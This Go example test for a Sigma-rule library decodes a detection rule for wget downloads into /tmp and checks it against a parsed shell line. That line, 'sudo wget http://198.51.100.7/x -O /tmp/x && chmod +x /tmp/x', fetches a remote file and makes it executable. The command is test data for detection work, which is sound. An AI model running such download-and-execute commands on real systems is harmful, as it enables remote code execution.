package sigma_test

import (
	"fmt"

	"github.com/decnet/ttp/rules/sigma"
	"github.com/decnet/ttp/shell"
)

// A Sigma process_creation rule read and evaluated on a command line as the shell reads it:
// the rule asks for a wget process writing into /tmp, and finds it behind sudo, after `;`.
func Example() {
	src := []byte(`title: Download into /tmp
id: 2b3c4d5e-0000-4000-8000-000000000001
author: Jane Doe
level: medium
tags: [attack.command-and-control, attack.t1105]
logsource: {product: linux, category: process_creation}
detection:
  selection:
    Image|endswith: /wget
    CommandLine|contains: ' -O /tmp/'
  filter:
    CommandLine|contains: localhost
  condition: selection and not filter
`)
	r, err := sigma.Decode("download.yml", src)
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(r.Emits[0].TechniqueID, r.Emits[0].Tactic, sigma.Levels[r.Level], r.Detection.Programs())
	l := shell.Parse("cd /; sudo wget http://198.51.100.7/x -O /tmp/x && chmod +x /tmp/x")
	for i, c := range l.Commands {
		fmt.Printf("%s %v\n", c.Image(), r.Detection.Match(l, i))
	}
	_, err = sigma.Decode("user.yml", []byte(`title: t
id: 2b3c4d5e-0000-4000-8000-000000000002
tags: [attack.t1105]
logsource: {product: linux, category: process_creation}
detection:
  selection:
    User: root
  condition: selection
`))
	fmt.Println(err)
	// Output:
	// T1105 command-and-control 0.7 [wget]
	// /usr/bin/cd false
	// /usr/bin/wget true
	// /usr/bin/chmod false
	// sigma: user.yml:7: detection.selection.User: unsupported: field "User": a command line shows only Image, CommandLine, ParentImage, ParentCommandLine
}
